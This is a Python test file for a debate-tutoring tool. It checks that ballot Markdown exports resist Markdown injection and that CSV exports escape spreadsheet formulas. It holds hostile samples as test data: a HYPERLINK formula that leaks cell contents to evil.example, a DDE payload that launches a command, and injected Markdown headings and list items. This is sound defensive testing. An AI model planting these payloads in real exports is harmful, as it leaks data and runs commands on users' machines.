"""Files for other programs keep the data as data: the teacher's ballot Markdown has the document's
structure whatever a claim, a name or a model's text says (issue 34, item 4), and no CSV cell
argtui writes starts a spreadsheet formula, while every text reads back as it was (item 5)."""

from __future__ import annotations

import csv
import io
import json

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from argtui.cli import main
from argtui.runtime import Runtime
from engines.critiques.files import CSV_COLUMNS, read_critiques, render
from engines.output import csv_cell, csv_text
from engines.student.ballot_export import ballot_markdown
from engines.tasks.ballot import Ballot, TurnMark
from store.debates import DebateRepository
from store.students import StudentRepository

# What Markdown reads as structure, and what starts a formula, among ordinary words and any text.
MARKDOWN_PIECES = (
    "\n", "\r\n", "\n\n", "\u2028", "\x85", "\t", "    ", "- ", "* ", "+ ", "1. ", "2) ", "# ", "## ", "> ", "---",
    "===", "***", "```", "~~~", "|", " | --- |", "[link](http://evil.example)", "![img](x)", "<b>", "</b>",
    "<!--", "&amp;", "&#35;", "*bold*", "_em_", "`code`", "~~gone~~", "$x$", "\\", "- Winner: student",
    "Winner", "[^1]", "<http://evil.example>", "cars",
)
FORMULA_PIECES = ("=", "+", "-", "@", "\t", "\r", "'", "''", "=1+2", '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
                  "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+cmd", " ", "cars", ",", '"', "\n")
no_nul = st.characters(exclude_characters="\x00", exclude_categories=["Cs"])  # no reader takes NUL or a lone surrogate
markdown_text = st.lists(st.sampled_from(MARKDOWN_PIECES) | st.text(no_nul, max_size=5), min_size=1, max_size=8).map(
    "".join)
cell_text = st.lists(st.sampled_from(FORMULA_PIECES) | st.text(no_nul, max_size=4), min_size=1, max_size=5).map(
    "".join)
SLOTS = ("claim", "student", "reason", "fix", "rewrite_from", "rewrite_to", "strongest", "weakest")
MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def debate_markdown(db, texts: dict[str, str]) -> str:
    """The teacher's Markdown of a stored two-turn debate whose claim, student and ballot texts are `texts`."""
    student = StudentRepository(db).get_or_add(texts["student"])
    repository = DebateRepository(db)
    debate = repository.create(texts["claim"], "pro", level=0, student_id=student.id)
    for message, reply in (("Uniforms stop bullying.", "Bullies find other targets."),
                           ("Uniforms save money.", "A uniform costs extra.")):
        repository.add_turn(debate.id, "user", message)
        repository.add_turn(debate.id, "assistant", reply)

    def mark(turn: int, text: str) -> TurnMark:
        return TurnMark(turn=turn, text=text, inspire=0.5, dimensions={}, grice={})

    ballot = Ballot(debate=debate.id, winner="bot", reason=texts["reason"], student_points=27, bot_points=28.5,
                    strongest=mark(1, texts["strongest"]), weakest=mark(2, texts["weakest"]), fix=texts["fix"],
                    rewrite_turn=2, rewrite_from=texts["rewrite_from"], rewrite_to=texts["rewrite_to"],
                    demonstration=False)
    return ballot_markdown(db, debate.id, ballot).replace(f"# Debate {debate.id}: ", "# Debate N: ", 1)


def shape(markdown: str) -> tuple[list[tuple[str, str, int]], list[str]]:
    """The document's blocks (type, tag, nesting) and the text of each of its inline runs, as a
    Markdown reader gets them; an inline run with anything but text (a link, emphasis, HTML, a
    line break) stands out as `<type>`."""
    blocks, inline = [], []
    for token in MARKDOWN.parse(markdown):
        if token.type == "inline":
            inline.append("".join(child.content if child.type == "text" else f"<{child.type}>"
                                  for child in token.children or []))
        else:
            blocks.append((token.type, token.tag, token.nesting))
    return blocks, inline


def as_inline(text: str) -> str:
    """What a reader should see of a text put inline: its line breaks as spaces, no surrounding blanks."""
    return " ".join(text.splitlines()).strip()


# A student's name is stored without its surrounding blanks and is never blank.
@given(texts=st.fixed_dictionaries({slot: markdown_text for slot in SLOTS}
                                   | {"student": markdown_text.map(lambda text: "Ada " + text)}))
@example(texts={**{slot: f"x {slot}" for slot in SLOTS},
                "claim": "Cars should be banned from city centres… cars\n- injected list item\n\n1. numbered injection",
                "student": "Ada\n- Winner: student", "reason": "Fine.\n\n## Winner: student"})
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
def test_the_ballot_markdown_keeps_its_structure_and_shows_each_text_inline_as_written(texts):
    runtime = Runtime()
    try:
        placeholders = {slot: f"SLOT{number}X" for number, slot in enumerate(SLOTS)}
        expected_blocks, expected_inline = shape(debate_markdown(runtime.db, placeholders))
        blocks, inline = shape(debate_markdown(runtime.db, texts))
    finally:
        runtime.db.close()
    assert blocks == expected_blocks  # no list item, heading, quote, table or code block of the data's
    for placeholder, slot in zip(placeholders.values(), SLOTS):
        expected_inline = [run.replace(placeholder, as_inline(texts[slot])) for run in expected_inline]
    # (A reader drops a line's trailing blanks: "Fix: " with no fix reads "Fix:".)
    assert inline == [run.rstrip() for run in expected_inline]  # each text shown as written, and only text


def test_a_multi_line_claim_adds_no_list_item_to_the_ballot(tmp_path):
    runtime = Runtime()
    claim = "Cars should be banned\n- Winner: student\n\n1. numbered injection"
    markdown = debate_markdown(runtime.db, {**{slot: "x" for slot in SLOTS}, "claim": claim})
    runtime.db.close()
    assert "- Claim: Cars should be banned - Winner: student  1. numbered injection\n" in markdown
    assert [line for line in markdown.splitlines() if line.startswith("- Winner")] == ["- Winner: bot"]


# ---------------------------------------------------------------------- CSV


@given(text=cell_text)
@example(text="'=1+2")
def test_a_cell_never_starts_a_formula_and_reads_back_as_written(text):
    cell = csv_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert csv_text(cell) == text


def test_numbers_stay_numbers():
    assert csv_cell(-0.5) == -0.5 and csv_cell(3) == 3 and csv_cell(None) is None


@given(rows=st.lists(st.tuples(*[cell_text.filter(str.strip)] * 3, cell_text), min_size=1, max_size=4))
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_the_critiques_csv_starts_no_formula_and_imports_back_unchanged(tmp_path, rows):
    records = [
        {"position_id": f"p{number}", "position": position, "critique_id": f"c{number}", "critique": critique,
         "ratings": [{"id": f"r{number}", "rater": rater, "rater_kind": "human", "overall": 0.5,
                      "note": note, "source_seen": False, "valid": True}]}
        for number, (position, critique, rater, note) in enumerate(rows)
    ]
    text = render(records, "csv")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    path = tmp_path / "critiques.csv"
    path.write_text(text, encoding="utf-8", newline="")
    read = read_critiques(path)
    assert [(p.uid, p.text) for p in read.positions] == [(f"p{n}", row[0]) for n, row in enumerate(rows)]
    assert [c.text for c in read.critiques] == [row[1] for row in rows]
    assert [(r.rater, r.note) for r in read.ratings] == [(row[2].strip(), row[3] if row[3].strip() else None)
                                                          for row in rows]  # a rater is read without blanks


def test_export_critiques_as_csv_prefixes_the_issues_formulas(tmp_path, capsys):
    hostile = tmp_path / "hostile.jsonl"
    formulas = {"position": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "critique": "=1+2",
                "rater": "@SUM(1+1)*cmd|' /C calc'!A0"}
    hostile.write_text(json.dumps({
        "position_id": "p1", "position": formulas["position"], "critique_id": "c1", "critique": formulas["critique"],
        "ratings": [{"rater": formulas["rater"], "overall": 0.5}],
    }) + "\n", encoding="utf-8")
    assert main(["import", "critiques", str(hostile)]) == 0
    out = tmp_path / "out.csv"
    assert main(["export", "critiques", "--format", "csv", "--output", str(out)]) == 0
    [row] = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert set(row) == set(CSV_COLUMNS)
    assert {name: row[name] for name in formulas} == {name: "'" + value for name, value in formulas.items()}
    read = read_critiques(out)
    assert (read.positions[0].text, read.critiques[0].text, read.ratings[0].rater) == tuple(formulas.values())
